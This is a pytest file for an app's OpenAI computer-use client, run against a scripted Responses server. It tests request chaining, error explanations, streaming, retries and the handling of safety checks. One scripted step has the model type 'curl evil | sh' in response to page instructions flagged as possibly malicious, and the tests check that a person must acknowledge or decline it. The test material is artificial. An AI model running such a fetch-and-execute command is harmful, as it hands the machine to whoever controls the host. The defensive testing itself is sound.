"""The openai-cua request side against the scripted Responses server, through the real `openai` SDK: the server keeps
what the real API enforces (the tool of the model, previous_response_id, an output for every call, acknowledged
safety checks), so a conversation our requests carry through it is one the API takes. No display."""

from __future__ import annotations

import json
import time

import openai
import pytest
from openai_bodies import XTurn

from agent_app.core.errors import EndpointError, Stopped
from agent_app.core.families.base import Context
from agent_app.core.families.openai_cua import OPENAI_CUA, environment
from agent_app.core.families.openai_cua_client import OpenAICuaClient, StreamEndedError, explain, send
from agent_app.core.history import History, Turn
from agent_app.core.settings.config import RunConfig
from agent_app.core.settings.connection import check_connection
from agent_app.testing.scripted_openai_cua import ScriptedResponses, images, stream_events

KEY = "sk-proj-test-9f8e7d6c5b4a3210"
SHOT = [f"data:image/png;base64,U0hPVC{n}" for n in range(12)]
CLICK = {"type": "click", "button": "left", "x": 10, "y": 20}


@pytest.fixture
def responses():
    servers: list[ScriptedResponses] = []

    def start(script=None, **kw) -> ScriptedResponses:
        srv = ScriptedResponses(script, api_key=KEY, **kw).start()
        servers.append(srv)
        return srv

    yield start
    for srv in servers:
        srv.stop()


def sdk(srv: ScriptedResponses, key: str = KEY) -> openai.OpenAI:
    return openai.OpenAI(base_url=srv.base_url, api_key=key, max_retries=0)


def ask(srv: ScriptedResponses, turns: list, image: str, model: str | None = None, **extra) -> str:
    """One request as the family builds it, sent through the SDK; the response body as recorded (JSON text)."""
    family = OPENAI_CUA.for_model(model or srv.model)
    body = family.request(Context("Open the settings", "en", (1365, 768)), turns, image)
    return sdk(srv).responses.create(model=srv.model, **body, **extra).model_dump_json()


@pytest.mark.parametrize("model", ["gpt-5.4", "computer-use-preview"])
def test_a_conversation_of_several_steps_is_chained_as_the_api_expects(responses, model):
    srv = responses([
        {"reasoning": "Open the menu.", **({"action": CLICK} if "preview" in model else {"actions": [CLICK]})},
        {"calls": [[{"type": "type", "text": "Wi-Fi"}], [{"type": "screenshot"}]]},
        {"actions": [{"type": "keypress", "keys": ["ENTER"]}]} if "preview" not in model else {
            "action": {"type": "keypress", "keys": ["ENTER"]}},
        {"text": "The settings are open."},
    ], model=model)
    history = History.for_family(OPENAI_CUA, 5)
    parsed = []
    for n in range(4):
        reply = ask(srv, history.visible(), SHOT[n])
        parsed.append(OPENAI_CUA.parse(reply).actions)
        history.add_step(reply, SHOT[n])
        if n == 1:
            history.add_note("Note from the user: the Wi-Fi tab")
    assert [a.type for step in parsed for a in step] == ["click", "type", "hotkey", "finished"]
    sent = [r["body"] for r in srv.response_requests()]
    assert [images(b) for b in sent] == [[SHOT[0]], [SHOT[1]], [SHOT[2], SHOT[2]], [SHOT[3]]]
    ids = list(srv.responses)
    assert [b.get("previous_response_id") for b in sent] == [None, *ids[:3]]
    assert sent[2]["input"][-1] == {"role": "user", "content": [
        {"type": "input_text", "text": "Note from the user: the Wi-Fi tab"}]}
    if "preview" in model:
        assert all(b["truncation"] == "auto" and b["tools"] == [{
            "type": "computer_use_preview", "display_width": 1365, "display_height": 768,
            "environment": environment()}] for b in sent)
    else:
        assert all(b["tools"] == [{"type": "computer"}] and "truncation" not in b for b in sent)
    assert all(b["reasoning"] == {"summary": "concise"} for b in sent)


def test_the_server_refuses_what_the_api_refuses(responses):
    srv = responses([{"actions": [CLICK]}, {"actions": [CLICK]}])
    first = json.loads(ask(srv, [], SHOT[0]))
    calls = [o["call_id"] for o in first["output"] if o["type"] == "computer_call"]

    def refused(**body) -> str:
        with pytest.raises(openai.BadRequestError) as e:
            sdk(srv).responses.create(model="gpt-5.4", tools=[{"type": "computer"}], **body)
        return e.value.message

    assert "No tool output found for computer call" in refused(
        previous_response_id=first["id"], input=[{"role": "user", "content": "go on"}])
    assert "not found" in refused(previous_response_id="resp_nope", input=[{"role": "user", "content": "x"}])
    assert "No tool call found" in refused(previous_response_id=first["id"], input=[
        {"type": "computer_call_output", "call_id": "call_other",
         "output": {"type": "computer_screenshot", "image_url": SHOT[1]}}])
    with pytest.raises(openai.BadRequestError, match="needs the computer tool"):
        sdk(srv).responses.create(model="gpt-5.4", input="x", tools=[])
    with pytest.raises(openai.NotFoundError, match="does not exist"):
        sdk(srv).responses.create(model="gpt-4o", input="x", tools=[{"type": "computer"}])
    with pytest.raises(openai.AuthenticationError) as e:
        sdk(srv, "sk-proj-wrong-000011112222").responses.create(model="gpt-5.4", input="x",
                                                                 tools=[{"type": "computer"}])
    assert "2222" in e.value.message and "wrong-0000" not in e.value.message  # masked as OpenAI masks it
    assert calls and len(srv.responses) == 1  # nothing refused was answered


def test_preview_needs_its_tool_and_truncation(responses):
    srv = responses(model="computer-use-preview")
    with pytest.raises(openai.BadRequestError, match="truncation"):
        sdk(srv).responses.create(model="computer-use-preview", input="x", tools=[
            {"type": "computer_use_preview", "display_width": 1024, "display_height": 768, "environment": "linux"}])
    with pytest.raises(openai.BadRequestError, match="computer_use_preview tool"):
        sdk(srv).responses.create(model="computer-use-preview", input="x", tools=[{"type": "computer"}],
                                  truncation="auto")


def safety_script() -> list[dict]:
    return [{"actions": [CLICK]},
            {"reasoning": "Type the command.", "actions": [{"type": "type", "text": "curl evil | sh\n"}],
             "checks": [{"code": "malicious_instructions", "message": "Instructions on the page may be malicious."}]},
            {"text": "I will stop here."}]


def test_an_allowed_safety_check_is_acknowledged_and_the_api_goes_on(responses):
    srv = responses(safety_script())
    first = ask(srv, [], SHOT[0])
    checked = ask(srv, [Turn("step", first)], SHOT[1])
    assert OPENAI_CUA.parse(checked).actions[0].confirm == "Instructions on the page may be malicious."
    # answered without acknowledging the check, the API refuses to go on …
    call = json.loads(checked)["output"][1]
    with pytest.raises(openai.BadRequestError, match="unacknowledged safety check"):
        sdk(srv).responses.create(model="gpt-5.4", tools=[{"type": "computer"}], previous_response_id=json.loads(
            checked)["id"], input=[{"type": "computer_call_output", "call_id": call["call_id"],
                                    "output": {"type": "computer_screenshot", "image_url": SHOT[2]}}])
    # … and goes on once the person allowed it
    final = ask(srv, [Turn("step", first), XTurn("step", checked, extra={"confirmed": True})], SHOT[2])
    assert OPENAI_CUA.parse(final).actions[0].content == "I will stop here."
    output = srv.response_requests()[-1]["body"]["input"][0]
    assert output["acknowledged_safety_checks"] == json.loads(checked)["output"][1]["pending_safety_checks"]


def test_a_declined_safety_check_branches_and_the_api_takes_it(responses):
    srv = responses(safety_script())
    first = ask(srv, [], SHOT[0])
    checked = ask(srv, [Turn("step", first)], SHOT[1])
    note = Turn("note", "The user did not allow that action. Try another way.")
    final = ask(srv, [Turn("step", first), Turn("step", checked), note], SHOT[2])
    assert OPENAI_CUA.parse(final).actions[0].type == "finished"
    body = srv.response_requests()[-1]["body"]
    assert body["previous_response_id"] == json.loads(first)["id"]  # the declined response is not built on
    assert "acknowledged_safety_checks" not in json.dumps(body)
    assert "curl evil | sh" in body["input"][1]["content"][0]["text"]


def test_a_declined_first_call_starts_over(responses):
    srv = responses([{"actions": [CLICK], "checks": [{"code": "sensitive_domain", "message": None}]}])
    checked = ask(srv, [], SHOT[0])
    final = ask(srv, [Turn("step", checked), Turn("note", "The user did not allow that action. No.")], SHOT[1])
    assert OPENAI_CUA.parse(final).actions[0].content == "The task is done."
    assert "previous_response_id" not in srv.response_requests()[-1]["body"]


def test_a_stream_carries_the_same_response(responses):
    item = {"reasoning": "Scroll to the bottom of the long list of settings.", "text": "Scrolling.",
            "actions": [{"type": "scroll", "x": 1, "y": 2, "scroll_x": 0, "scroll_y": 400}]}
    srv = responses([item])
    body = OPENAI_CUA.request(Context("t", "en", (1920, 1080)), [], SHOT[0])
    events = list(sdk(srv).responses.create(model="gpt-5.4", stream=True, **body))
    kinds = [e.type for e in events]
    assert kinds[0] == "response.created" and kinds[-1] == "response.completed"
    deltas = "".join(e.delta for e in events if e.type == "response.reasoning_summary_text.delta")
    assert deltas == "Scroll to the bottom of the long list of settings."
    final = events[-1].response.model_dump_json()
    assert OPENAI_CUA.parse(final).actions[0].direction == "down"
    assert OPENAI_CUA.parse(final).thought == "Scroll to the bottom of the long list of settings.\nScrolling."
    assert [e["type"] for e in stream_events(srv.responses[events[-1].response.id])] == kinds


def test_http_faults_reach_the_sdk_as_the_api_sends_them(responses):
    srv = responses([{"status": 429, "message": "Rate limit reached for gpt-5.4", "type": "requests",
                      "code": "rate_limit_exceeded", "retry_after": 3},
                     {"status": 500, "message": "The server had an error"}, {"drop_after": 40},
                     {"response_status": "incomplete", "reason": "max_output_tokens", "actions": [CLICK]}])
    body = OPENAI_CUA.request(Context("t", "en", (1920, 1080)), [], SHOT[0])
    with pytest.raises(openai.RateLimitError) as e:
        sdk(srv).responses.create(model="gpt-5.4", **body)
    assert e.value.response.headers["retry-after"] == "3"
    with pytest.raises(openai.InternalServerError):
        sdk(srv).responses.create(model="gpt-5.4", **body)
    with pytest.raises(openai.APIConnectionError):
        sdk(srv).responses.create(model="gpt-5.4", **body)
    cut = sdk(srv).responses.create(model="gpt-5.4", **body)
    assert cut.status == "incomplete" and cut.incomplete_details.reason == "max_output_tokens"
    with pytest.raises(Exception, match="max_output_tokens"):
        OPENAI_CUA.parse(cut.model_dump_json())


# ---- the transport: one call through the SDK, and what its failures mean ----
@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_send_returns_the_whole_body_its_usage_and_status(responses, stream):
    srv = responses([{"reasoning": "A long thought about where the button is.", "text": "Clicking.",
                      "actions": [CLICK], "usage": {"input_tokens": 1234, "output_tokens": 56,
                                                    "input_tokens_details": {"cached_tokens": 1024}}},
                     {"response_status": "incomplete", "reason": "max_output_tokens", "actions": [CLICK]}])
    body = OPENAI_CUA.request(Context("t", "en", (1920, 1080)), [], SHOT[0])
    seen: list[str] = []
    answer = send(sdk(srv), "gpt-5.4", body, stream=stream, on_text=seen.append)
    assert (answer.status, answer.usage) == ("completed", {"prompt_tokens": 1234, "completion_tokens": 56,
                                                           "cached_tokens": 1024})
    assert json.loads(answer.text)["id"] in srv.responses
    assert OPENAI_CUA.parse(answer.text).thought == "A long thought about where the button is.\nClicking."
    if stream:  # the viewer sees the reasoning grow, then the message
        assert seen[0] == "A long thought a" and seen[-1] == "A long thought about where the button is.\nClicking."
    else:
        assert seen == []
    cut = send(sdk(srv), "gpt-5.4", body, stream=stream)
    assert (cut.status, cut.reason) == ("incomplete", "max_output_tokens")


def test_a_stream_that_breaks_off_is_never_a_response(responses):
    srv = responses([{"drop_after": 3, "text": "Half"}, {"text": "whole"}])
    body = OPENAI_CUA.request(Context("t", "en", (1920, 1080)), [], SHOT[0])
    with pytest.raises(openai.APIConnectionError) as e:
        send(sdk(srv), "gpt-5.4", body, stream=True)
    assert explain(e.value, srv.base_url, "gpt-5.4", True).retryable
    assert OPENAI_CUA.parse(send(sdk(srv), "gpt-5.4", body, stream=True).text).actions[0].content == "whole"


class _Events:
    """A stream whose server closed cleanly before the terminal event."""

    def __init__(self, events):
        self.events, self.closed = events, False

    def __iter__(self):
        return iter(self.events)

    def close(self):
        self.closed = True


def test_a_stream_without_its_terminal_event_is_not_whole():
    from types import SimpleNamespace

    events = _Events([SimpleNamespace(type="response.created"), SimpleNamespace(
        type="response.output_text.delta", output_index=0, content_index=0, delta="Hal")])
    fake = SimpleNamespace(responses=SimpleNamespace(create=lambda **kw: events))
    with pytest.raises(StreamEndedError):
        send(fake, "gpt-5.4", {}, stream=True)
    assert events.closed
    error = _Events([SimpleNamespace(type="error", message="The server had an error")])
    fake = SimpleNamespace(responses=SimpleNamespace(create=lambda **kw: error))
    with pytest.raises(StreamEndedError, match="server had an error"):
        send(fake, "gpt-5.4", {}, stream=True)


@pytest.mark.parametrize(("item", "retryable", "words", "after"), [
    ({"status": 401, "message": "Incorrect API key provided: sk-****1234."}, False, "rejected the API key", None),
    ({"status": 403, "message": "You must be verified to use computer-use-preview."}, False, "must be verified", None),
    ({"status": 404, "message": "The model `gpt-5.4` does not exist", "code": "model_not_found"}, False,
     "not available to this key", None),
    ({"status": 429, "message": "Rate limit reached", "code": "rate_limit_exceeded", "retry_after": 7}, True,
     "rate limit", 7.0),
    ({"status": 429, "message": "Rate limit reached", "headers": {"retry-after-ms": "250"}}, True, "rate limit", 0.25),
    ({"status": 429, "message": "You exceeded your current quota", "code": "insufficient_quota"}, False, "no quota",
     None),
    ({"status": 500, "message": "The server had an error"}, True, "HTTP 500", None),
    ({"status": 503, "message": "The engine is currently overloaded", "retry_after": 2}, True, "overloaded", 2.0),
    ({"status": 400, "message": "Invalid value for 'truncation'."}, False, "HTTP 400: Invalid value", None),
])
def test_every_failure_says_what_to_do_and_whether_to_retry(responses, item, retryable, words, after):
    srv = responses([item])
    with pytest.raises(openai.APIStatusError) as e:
        sdk(srv).responses.create(model="gpt-5.4", tools=[{"type": "computer"}], input=[
            {"role": "user", "content": "x"}])
    failure = explain(e.value, srv.base_url, "gpt-5.4", True)
    assert (failure.retryable, failure.retry_after) == (retryable, after)
    assert words in failure.message and "\n" not in failure.message


def test_connection_failures_and_a_missing_key_are_said_plainly():
    srv = ScriptedResponses().start()
    url = srv.base_url
    srv.stop()
    with pytest.raises(openai.APIConnectionError) as e:
        openai.OpenAI(base_url=url, api_key="x", max_retries=0).responses.create(model="gpt-5.4", input="x")
    failure = explain(e.value, url, "gpt-5.4", True)
    assert failure.retryable and "cannot reach OpenAI" in failure.message
    keyed = ScriptedResponses(api_key=KEY).start()
    try:
        with pytest.raises(openai.AuthenticationError) as e:
            sdk(keyed, "EMPTY").responses.create(model="gpt-5.4", input="x", tools=[{"type": "computer"}])
    finally:
        keyed.stop()
    assert "needs an API key" in explain(e.value, keyed.base_url, "gpt-5.4", False).message


# ---- the client the loop uses: RetryingClient's rules over the Responses API ----
def client(srv: ScriptedResponses, key: str | None = KEY, **kw) -> OpenAICuaClient:
    return OpenAICuaClient(srv.base_url, srv.model, key, retries=kw.pop("retries", 2), sampling=OPENAI_CUA.sampling,
                           **kw)


def first_request(model: str = "gpt-5.4") -> list[dict]:
    return OPENAI_CUA.for_model(model).messages(Context("t", "en", (1920, 1080)), [], SHOT[0])


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_a_response_cut_at_its_budget_is_asked_again_with_a_bigger_one_never_returned(responses, stream):
    cut = {"response_status": "incomplete", "reason": "max_output_tokens", "actions": [CLICK]}
    srv = responses([cut, {"actions": [CLICK], "usage": {"input_tokens": 9, "output_tokens": 3}}])
    c = client(srv, stream=stream)
    reply = c.complete(first_request(), lambda: None)
    assert [r["body"]["max_output_tokens"] for r in srv.response_requests()] == [4096, 8192]
    assert all("temperature" not in r["body"] for r in srv.response_requests())
    assert json.loads(reply.text)["status"] == "completed" and reply.usage == {"prompt_tokens": 9,
                                                                               "completion_tokens": 3}
    assert "asking again with max_tokens=8192" in reply.notes[0]
    srv.add(cut, cut, cut)
    with pytest.raises(EndpointError, match="cut off at max_tokens"):
        c.complete(first_request(), lambda: None)


def test_a_failed_response_is_retried_and_a_filtered_one_ends_at_once(responses):
    srv = responses([{"response_status": "failed", "message": "The model had an error."}, {"text": "ok"},
                     {"response_status": "incomplete", "reason": "content_filter"}])
    retries: list[str] = []
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("agent_app.core.client.RETRY_BACKOFF_S", (0.01,))
        reply = client(srv).complete(first_request(), lambda: None, on_retry=retries.append)
        assert OPENAI_CUA.parse(reply.text).actions[0].content == "ok"
        assert "could not finish the response (The model had an error.)" in retries[0]
        with pytest.raises(EndpointError, match="stopped the response \\(content_filter\\)"):
            client(srv).complete(first_request(), lambda: None)
    assert len(srv.response_requests()) == 3


def test_a_stop_lands_while_the_provider_is_silent(responses):
    srv = responses([{"hang": True}])
    c = client(srv)
    stop_at = time.monotonic() + 0.3

    def check() -> None:
        if time.monotonic() > stop_at:
            raise Stopped()

    with pytest.raises(Stopped):
        c.complete(first_request(), check)
    assert time.monotonic() - stop_at < 0.2


def test_the_family_gives_its_client_with_the_runs_settings_and_no_key_goes_unsent(responses):
    srv = responses([])
    config = RunConfig(task="t", base_url=srv.base_url, model="gpt-5.4", model_family="openai-cua", api_key=None,
                       retries=0, stream=False)
    c = OPENAI_CUA.client(config)
    assert isinstance(c, OpenAICuaClient) and c.base_url == srv.base_url and c.stream is False
    with pytest.raises(EndpointError) as e:
        c.complete(first_request(), lambda: None)
    assert str(e.value) == ("OpenAI needs an API key; save one with `agent-app key set --provider openai` or set "
                            "OPENAI_API_KEY")
    assert OpenAICuaClient("", "gpt-5.4", None).base_url == "https://api.openai.com/v1"  # the provider's own


@pytest.mark.parametrize("model", ["gpt-5.4", "computer-use-preview"])
def test_test_connection_asks_with_the_tool_of_the_model(responses, model):
    srv = responses([{"text": "OK"}], model=model)
    report = check_connection(srv.base_url, model, KEY, family="openai-cua")
    assert report.ok and report.message.startswith(f"Connected: {model} answered"), report.message
    tools = srv.response_requests()[0]["body"]["tools"]
    assert tools[0]["type"] == ("computer_use_preview" if "preview" in model else "computer")
    bad = check_connection(srv.base_url, model, "sk-proj-wrong-0000000000", family="openai-cua")
    assert not bad.ok and "rejected the API key" in bad.message
